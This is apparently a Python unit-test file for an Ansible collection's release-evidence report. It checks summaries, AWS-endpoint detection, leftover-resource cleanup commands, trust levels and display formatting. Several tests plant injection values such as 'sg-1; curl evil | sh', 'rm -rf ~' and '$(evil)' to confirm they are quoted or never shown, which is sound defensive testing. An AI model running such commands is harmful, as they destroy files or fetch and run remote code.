# Copyright: (c) 2026, papyrus.ops contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The report's first screen and its end: the answer, who says so, and what is not proved (J1, N4)."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.papyrus.ops.plugins.module_utils._bundle_view import BundleView
from ansible_collections.papyrus.ops.plugins.module_utils._evidence import Bundle
from ansible_collections.papyrus.ops.plugins.module_utils._report_limits import (
    continued,
    crash,
    items,
    limits,
    verification,
)
from ansible_collections.papyrus.ops.plugins.module_utils._report_source import Source
from ansible_collections.papyrus.ops.plugins.module_utils._report_summary import Summary, is_local, summary, trust
from ansible_collections.papyrus.ops.plugins.module_utils._report_text import duration, size, visible
from ansible_collections.papyrus.ops.tests.unit.evidence_shapes import ALB, ALB_SG, DIGEST
from ansible_collections.papyrus.ops.tests.unit.evidence_world import (
    World,
    crashed_and_continued,
    failed_preflight,
    failed_probe_and_destroy,
    passing_release,
    passing_smoke,
    rolled_back_release,
)

KMS = {"trust": "kms", "keyid": "abc", "identity": "arn:aws:kms:us-west-2:1:key/k", "by": "run"}


def source(bundle: Bundle) -> Source:
    return Source(BundleView.of(bundle))


def said(bundle: Bundle, seal: Mapping[str, Any] | None = None) -> Summary:
    return summary(source(bundle), seal or {})


def by_title(found: Summary) -> dict[str, str]:
    return {claim.title: claim.status for claim in found.claims}


# The first screen


def test_J1_a_passed_run_on_aws_is_a_yes(tmp_path: Path) -> None:
    found = said(passing_smoke(tmp_path / "run"), KMS)
    assert (found.result, found.tone, found.question) == ("PASSED", "pass", "May this image be released?")
    assert found.answer == "Yes: all 28 checks passed and everything that was created is gone."
    assert found.image is not None and found.image.digest == DIGEST
    assert (found.caller, found.account, found.region) == (
        "arn:aws:sts::123456789012:assumed-role/papyrus-runner/release", "123456789012", "us-west-2"
    )  # fmt: skip
    assert (found.started, found.took) == ("2026-01-31 12:00:00 UTC", "1 min 14 s")
    assert found.chips == [("plain", "AWS"), ("plain", "Signed by KMS")]
    assert set(by_title(found).values()) == {"ok"} and len(found.claims) == 5
    assert (found.first, found.destroy, found.others, found.left.text[:8]) == (None, None, [], "Nothing:")


def test_J1_a_local_stand_in_is_no_yes(tmp_path: Path) -> None:
    world = World(tmp_path / "run", endpoint="http://127.0.0.1:20365")
    world.smoke()
    world.destroy()
    found = said(world.close())
    assert found.result == "PASSED" and found.local
    assert found.answer.startswith("Rehearsed, not proven on AWS: all 28 checks passed")
    assert ("skip", "Not AWS: a local stand-in") in found.chips and ("skip", "Not signed") in found.chips


@pytest.mark.parametrize(
    ("endpoint", "local"),
    [
        ("", False),
        ("https://ecs.us-west-2.amazonaws.com", False),
        ("https://vpce-1.ecs.us-west-2.vpce.amazonaws.com:443/", False),
        ("https://ecs.cn-north-1.amazonaws.com.cn", False),
        ("https://ecs.us-west-2.api.aws", False),
        ("http://127.0.0.1:20365", True),
        ("http://localhost", True),
        ("https://ecs.amazonaws.com.example.org", True),
        ("https://example.org/.amazonaws.com", True),
        ("https://amazonaws.com@example.org", True),
        ("https://notamazonaws.com", True),
        ("not a url", True),
        ("http://[::1", True),
    ],
)
def test_J1_what_is_not_aws_is_told_apart(endpoint: str, local: bool) -> None:
    assert is_local(endpoint) is local


def test_J1_a_warned_run_says_with_how_many_warnings(tmp_path: Path) -> None:
    found = said(passing_release(tmp_path / "run"))
    assert (found.result, found.tone) == ("WARNED", "warn")
    assert found.answer.startswith("Yes, with 1 warning: all ")
    assert found.warnings == ["B2 skipped: RDS manages the secret, which has no host"], "asked twice, said once"
    assert found.release == "papyrus-task:5 deployed and proven" and found.release_proven
    assert found.claims[0].text == "9 of 10 questions answered OK; skipped: B2"


def test_J1_a_failed_run_says_where_why_and_that_nothing_was_created(tmp_path: Path) -> None:
    found = said(failed_preflight(tmp_path / "run"))
    assert found.answer == "No. The run failed at B4 (Preflight)."
    assert found.first is not None
    assert (found.first.step, found.first.item) == ("B4", "preflight.json")
    assert found.first.cause == "rds.force_ssl=0: the server accepts sessions without encryption"
    assert found.left.known and found.left.text == "Nothing: the run ended before it created anything."
    assert by_title(found)["What answers is this image"] == "none"
    assert found.claims[0].text == "9 of 10 questions answered OK; NG: B4"


def test_C6_a_failed_destroy_stands_apart_with_what_is_left(tmp_path: Path) -> None:
    found = said(failed_probe_and_destroy(tmp_path / "run"))
    assert found.first is not None and found.destroy is not None
    assert (found.first.step, found.destroy.step) == ("D1", "C6")
    assert found.destroy.cause.startswith("DependencyViolation")
    assert found.destroy not in found.others and found.first not in found.others
    assert found.answer.endswith("2 resources are left behind.")
    assert found.left.resources == [("load balancer", ALB), ("security group", ALB_SG)]
    assert found.left.commands[0].startswith(
        "aws elbv2 delete-load-balancer --region us-west-2 --load-balancer-arn arn:"
    )
    assert by_title(found)["Everything created is gone"] == "ng"


def test_J1_a_claim_is_short_whatever_the_cause(tmp_path: Path) -> None:
    world = World(tmp_path / "run")
    world.keep("binding.json", {}, "ng", "N2", reason="w" * 5_000)
    [claim] = [claim for claim in said(world.bundle).claims if claim.anchor == "identity"]
    assert len(claim.text) < 300 and "more characters" in claim.text


def test_C7_a_command_of_the_bundle_itself_is_never_shown(tmp_path: Path) -> None:
    world = World(tmp_path / "run")
    left = [{"kind": "security_group", "id": "sg-1; curl evil | sh"}, {"kind": "evil", "id": "x"}, {"kind": None}]
    content = {"gone": False, "resources": left, "delete_by_hand": ["rm -rf ~"]}
    world.keep("alb_sg_verify_gone.json", content, "ng", "C7", reason="left")
    found = said(world.bundle)
    assert found.left.commands == ["aws ec2 delete-security-group --region us-west-2 --group-id 'sg-1; curl evil | sh'"]


def test_C7_without_a_gone_check_nothing_is_known(tmp_path: Path) -> None:
    world = World(tmp_path / "run")
    world.start_apply()
    found = said(world.close())
    assert not found.left.known
    assert found.answer.endswith("What is left behind is not known.")


def test_F3_a_rolled_back_release_says_what_serves(tmp_path: Path) -> None:
    found = said(rolled_back_release(tmp_path / "run"))
    assert found.answer == "No. The run failed at F3 (Rollout and running tasks). papyrus-task:4 serves."
    assert found.release.startswith("papyrus-task:5: rolled back by deployment circuit breaker; papyrus-task:4 serves")
    assert by_title(found)["The revision was rolled out"] == "ng"


def test_J1_an_interrupted_run_says_who_completed_and_who_sealed_it(tmp_path: Path) -> None:
    seal = {"trust": "self-asserted", "by": "evidence_seal", "afterCrash": True, "sealedAt": "2026-01-31T13:00:00Z"}
    bundle = crashed_and_continued(tmp_path / "run")
    found = said(bundle, seal)
    chips = [text for _tone, text in found.chips]
    assert chips[2:] == ["Continued after a crash", "Sealed after a crash", "Completed by its guard"]
    assert found.trust.sealed == "Sealed later, by hand (2026-01-31 13:00:00 UTC)"
    [one] = continued(source(bundle))
    assert one.torn == "A torn last line of 28 bytes" and str(one.line) == '{"at":"2026-01-31T12:00:05.2'
    assert [(path, word) for path, _sha, word in one.files] == [
        ("20260131T120005Z_papyrus_psql_insert_cli.log", "whole, listed since then")
    ]
    told = crash(source(bundle), found)
    assert told is not None and told.guard is not None
    assert "ended without closing the run" in told.guard.entry.reason


def test_J1_a_run_without_an_interruption_has_no_such_part(tmp_path: Path) -> None:
    bundle = passing_smoke(tmp_path / "run")
    assert crash(source(bundle), said(bundle, {"trust": "kms", "note": "no time stamp at sealing: timed out"})) is None
    assert crash(source(bundle), said(bundle, {"trust": "kms", "afterCrash": True})) is not None


def test_J1_a_schema_run_asks_another_question(tmp_path: Path) -> None:
    world = World(tmp_path / "run", "schema")
    world.keep("schema_apply_exec.log", "COMMIT\n", "ok", "G1", reason="committed, changes the database")
    found = said(world.close())
    assert found.question == "Did the run succeed?"
    assert [(claim.title, claim.status) for claim in found.claims] == [("The schema is in order", "ok")]


def test_I1_a_drill_says_on_its_first_screen_what_rang(tmp_path: Path) -> None:
    world = World(tmp_path / "run", "alarm_drill")
    world.keep("alarm_drill.jsonl", [], "ng", "I1", reason="5 of 6 alarms went OK → ALARM → OK; FAILED: svc-cpu")
    [claim] = said(world.close()).claims
    assert (claim.title, claim.status) == ("Each alarm rings, is heard, and ends", "ng")
    assert "FAILED: svc-cpu" in claim.text
    [claim] = said(World(tmp_path / "other", "alarm_drill").close()).claims
    assert (claim.status, claim.text) == ("none", "Not reached: the bundle has no alarm_drill.jsonl.")


@pytest.mark.parametrize(
    ("kind", "word"),
    [("self-asserted", "could have made everything up"), ("kms", "key's policy"), ("keyless", "public log"),
     ("", "whoever can write these files can write them anew"), ("brand-new", "does not know that class")],
)  # fmt: skip
def test_N4_how_far_the_signature_reaches(kind: str, word: str) -> None:
    found = trust({"trust": kind, "keyid": "k", "identity": "i", "by": "guard"})
    assert word in found.text
    assert found.kind == {"": "none", "brand-new": "unknown"}.get(kind, kind)
    assert (found.sealed == "") is (kind == "")


# The end


def titles(bundle: Bundle, seal: Mapping[str, Any] | None = None) -> list[str]:
    return [limit.title for limit in limits(source(bundle), said(bundle, seal)).limits]


def test_N4_what_is_not_proved_depends_on_the_run(tmp_path: Path) -> None:
    assert titles(passing_smoke(tmp_path / "aws"), KMS) == [
        "That AWS answered so", "That the runner is honest", "Times", "The app's own word", "More than this moment",
        "That no short secret is in it",
    ]  # fmt: skip
    world = World(tmp_path / "local", endpoint="http://127.0.0.1:1", dirty=True)
    world.keep("run_timestamp.tsr", "der", "info", "J1")
    found = limits(source(world.bundle), said(world.bundle))
    assert [limit.title for limit in found.limits][:2] == ["AWS", "Who made it"]
    assert "Which source it was run from" in [limit.title for limit in found.limits]
    [times] = [limit.text for limit in found.limits if limit.title == "Times"]
    assert "the run began no later than its authority says" in times


def test_N4_skipped_checks_are_listed_with_their_reasons(tmp_path: Path) -> None:
    bundle = passing_release(tmp_path / "run")
    found = limits(source(bundle), said(bundle)).skips
    assert [(each.id, each.reason, each.allowed) for each in found] == [
        ("B2", "RDS manages the secret, which has no host", True)
    ]


def test_J1_every_line_has_its_hash_and_the_chain_its_head(tmp_path: Path) -> None:
    bundle = passing_smoke(tmp_path / "run")
    found = items(source(bundle))
    assert [(each.seq, each.sha256) for each in found.items] == [
        (str(line["seq"]), line["sha256"]) for line in bundle.lines()
    ]
    assert found.head == bundle.head()
    assert (found.problems, found.left_out) == (0, 0)


def test_N4_commands_quote_what_the_bundle_says_of_itself(tmp_path: Path) -> None:
    bundle = Bundle.create(tmp_path / "run; curl evil", {"run_id": "$(evil)"})
    found = verification(source(bundle), said(bundle))
    assert found.files == "cd 'run; curl evil' && sha256sum --check --strict SHA256SUMS"
    assert """-e '{"papyrus_verify_bundle": "run; curl evil"}' -e papyrus_verify_key=""" in found.signature
    keyless = verification(source(bundle), said(bundle, {"trust": "keyless"}))
    assert "papyrus_verify_identity=WHO" in keyless.signature


# Texts


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.0006, "0.6 ms"), (0.036, "36 ms"), (0.11, "110 ms"), (0.9996, "1.0 s"), (9.25, "9.2 s"), (59.96, "1 min 00 s"),
     (62, "1 min 02 s"), (3599.9, "1 h 00 min"), (7380, "2 h 03 min"), (-2, "−2.0 s")],
)  # fmt: skip
def test_J1_durations_are_for_people(seconds: float, text: str) -> None:
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("count", "text"),
    [
        (0, "0 bytes"),
        (1, "1 byte"),
        (999, "999 bytes"),
        (16_281, "16.3 kB"),
        (999_960, "1.0 MB"),
        (5 * 10**9, "5.0 GB"),
    ],
)
def test_J1_sizes_are_for_people(count: int, text: str) -> None:
    assert size(count) == text


def test_J1_what_hides_or_acts_is_made_visible_and_lines_stay() -> None:
    assert (
        visible("a\tb\r\nc\u202ed\x1b[31m\x00\u200b\ufeff\ud800é")
        == "a\tb\nc\\u202ed\\x1b[31m\\x00\\u200b\\ufeff\\ud800é"
    )
